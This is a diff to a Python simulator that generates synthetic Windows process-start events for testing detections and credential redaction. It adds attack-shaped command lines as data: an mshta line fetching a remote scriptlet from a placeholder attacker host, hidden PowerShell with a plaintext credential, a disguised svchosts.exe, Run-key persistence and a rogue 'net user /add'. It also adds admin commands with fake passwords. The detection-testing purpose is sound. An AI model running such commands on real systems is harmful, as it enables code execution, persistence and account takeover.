@@ -31,6 +31,11 @@ simulator (eventlog.PROCESS_MIX) gives each class a share of process starts:
 - "attack_family": derived events that auditplan's five detection families match (the dev set's
   CC0/MIT files hold none: regsvr32/ftp/hidden PowerShell exist only in its GPL files), so the
   detections have something to find (DERIVED_ATTACK_FAMILY).
+Credential-bearing command lines (DERIVED_BENIGN_SECRETS: sqlcmd -P, curl -u, ConvertTo-SecureString
+-AsPlainText, net use, a connection string; DERIVED_ATTACK: net user /add; one hidden-PowerShell family
+template) carry obviously fake values ("Example-Not-A-Real-PwN") so the exposure count has something to
+find; the collector redacts them before anything is stored. The benign ones weigh SECRET_WEIGHT each,
+about 1.1 % of process starts together (an ASSUMPTION, stated, not measured).
 Within a class, each process image (basename) has a weight (IMAGE_WEIGHTS, default 1), shared
 equally by that image's templates. The weights are an ASSUMPTION (a guess at how often a quiet
 Windows server starts each image), not a measurement.
@@ -156,6 +161,47 @@ DERIVED_ATTACK_FAMILY: tuple[tuple[str, int, dict[str, str]], ...] = (
                "ParentProcessName": "C:\\Windows\\explorer.exe"}),
     (_SERVICE, 2, {"CommandLine": "reg  add \"HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\" /v Updater "
                    "/t REG_SZ /d \"C:\\Users\\Public\\Libraries\\update.exe\" /f"}),
+    # A second shape per family (1, 3, 4, 5), one of them also carrying an (obviously fake) password.
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "mshta.exe",
+                    "CommandLine": "mshta.exe javascript:a=GetObject(\"script:https://attacker.example.invalid/m.sct\")"
+                    ".Exec();close()"}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+                    "CommandLine": "powershell  -nop -w hidden -c \"$p = ConvertTo-SecureString "
+                    "'Example-Not-A-Real-Pw7' -AsPlainText -Force; Invoke-Command -ComputerName dc01 -Credential "
+                    "(New-Object PSCredential('CORP\\admmig', $p)) -ScriptBlock {whoami}\""}),
+    (_WSL, 2, {"NewProcessName": "C:\\Users\\admmig\\AppData\\Local\\Temp\\msupd\\svchosts.exe",
+               "CommandLine": "\"C:\\Users\\admmig\\AppData\\Local\\Temp\\msupd\\svchosts.exe\" -k net",
+               "ParentProcessName": "C:\\Windows\\explorer.exe"}),
+    (_SERVICE, 2, {"CommandLine": "reg  add HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\RunOnce "
+                   "/v svc /t REG_SZ /d \"C:\\Users\\admmig\\AppData\\Local\\Temp\\msupd\\svchosts.exe\" /f"}),
+)
+# Administrators' commands that put a credential on the command line (obviously fake values; the
+# collector redacts them before anything is stored: collect/secrets.py). Each carries its own
+# weight within the benign class: 0.1 each, 0.5 of the benign total of ~45, i.e. about 1.1 % of
+# process starts (an ASSUMPTION chosen so a demo sample of a few hundred events finds some).
+SECRET_WEIGHT = 0.1
+DERIVED_BENIGN_SECRETS: tuple[tuple[str, int, dict[str, str]], ...] = (
+    (_DEFENDER, 1, {"NewProcessName": "C:\\Program Files\\Microsoft SQL Server\\Client SDK\\ODBC\\170\\Tools\\Binn\\"
+                    "SQLCMD.EXE", "CommandLine": "sqlcmd  -S db01.corp.example -U svc_report -P Example-Not-A-Real-Pw1 "
+                    "-Q \"EXEC dbo.nightly_export\""}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "curl.exe",
+                    "CommandLine": "curl.exe  -s -u deploy:Example-Not-A-Real-Pw2 "
+                    "https://artifacts.example.invalid/api/v1/status"}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe",
+                    "CommandLine": "powershell.exe  -NoProfile -Command \"$s = ConvertTo-SecureString "
+                    "'Example-Not-A-Real-Pw3' -AsPlainText -Force; New-PSDrive -Name B -PSProvider FileSystem "
+                    "-Root \\\\fs01\\backup -Credential (New-Object PSCredential('CORP\\svc_backup', $s))\""}),
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "net.exe",
+                    "CommandLine": "net  use \\\\fs01.corp.example\\backup Example-Not-A-Real-Pw4 "
+                    "/user:CORP\\svc_backup"}),
+    (_DEFENDER, 1, {"NewProcessName": "C:\\Program Files\\Contoso\\Sync\\synctool.exe",
+                    "CommandLine": "\"C:\\Program Files\\Contoso\\Sync\\synctool.exe\" --connection "
+                    "\"Server=db01.corp.example;Database=crm;User Id=sync;Password=Example-Not-A-Real-Pw5;\""}),
+)
+# An attacker adding a local account (technique class "attack"), again with a fake password.
+DERIVED_ATTACK: tuple[tuple[str, int, dict[str, str]], ...] = (
+    (_DEFENDER, 1, {"NewProcessName": _SYS32 + "net.exe",
+                    "CommandLine": "net  user helpdesk Example-Not-A-Real-Pw6 /add"}),
 )
 # Windows renders GUID-typed values in braces; evtx-rs drops them.
 _BARE_GUID = re.compile(r"^[0-9A-Fa-f]{8}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{4}-[0-9A-Fa-f]{12}$")
@@ -353,8 +399,10 @@ def _process_mix(templates: list[dict[str, Any]], real: dict[tuple[str, int], di
     classed = [(t, _mix_of(t["data"])) for t in templates if t["kind"] == "process"]
     classed += [(_derive(real, f, r, c, MIX_BENIGN), MIX_BENIGN) for f, r, c in DERIVED_BENIGN]
     classed += [(_derive(real, f, r, c, MIX_ATTACK_FAMILY), MIX_ATTACK_FAMILY) for f, r, c in DERIVED_ATTACK_FAMILY]
+    classed += [(_derive(real, f, r, c, MIX_ATTACK), MIX_ATTACK) for f, r, c in DERIVED_ATTACK]
+    secrets = [_derive(real, f, r, c, MIX_BENIGN) for f, r, c in DERIVED_BENIGN_SECRETS]
     seen: set[tuple[str, str, str]] = set()
-    for t, _ in classed:
+    for t in [t for t, _ in classed] + secrets:
         # a rendered event must still name its template (tests trace each one to its real event)
         d = dict((k, v) for k, v in t["data"])
         ident = (d.get("NewProcessName", ""), d.get("CommandLine", ""), d.get("NewProcessId", ""))
@@ -368,6 +416,9 @@ def _process_mix(templates: list[dict[str, Any]], real: dict[tuple[str, int], di
         weight = IMAGE_WEIGHTS.get(_basename(t), 1.0) / per_image[(mix, _basename(t))]
         out.append({"kind": "process", "mix": mix, "weight": round(weight, 6),
                     **{k: v for k, v in t.items() if k != "kind"}})
+    # their own weight, outside the per-image sharing (powershell.exe and net.exe also start for other reasons)
+    out += [{"kind": "process", "mix": MIX_BENIGN, "weight": SECRET_WEIGHT,
+             **{k: v for k, v in t.items() if k != "kind"}} for t in secrets]
     return out
 
 
@@ -381,7 +432,12 @@ def _sysmon_templates(process: list[dict[str, Any]]) -> list[dict[str, Any]]:
             continue
         taken.add(key)
         sysmon = _sysmon_from_4688(t, len(out))
-        out.append({"kind": "sysmon", "mix": t["mix"], "weight": IMAGE_WEIGHTS.get(key[1], 1.0),
+        # an image started only by the credential-bearing commands keeps their (small) total weight
+        secret_only = all(p["weight"] == SECRET_WEIGHT and "Example-Not-A-Real" in str(p["data"])
+                          for p in process if (p["mix"], _basename(p)) == key)
+        weight = (SECRET_WEIGHT * sum(1 for p in process if (p["mix"], _basename(p)) == key) if secret_only
+                  else IMAGE_WEIGHTS.get(key[1], 1.0))
+        out.append({"kind": "sysmon", "mix": t["mix"], "weight": weight,
                     **{k: v for k, v in sysmon.items() if k != "kind"}})
     return out
 
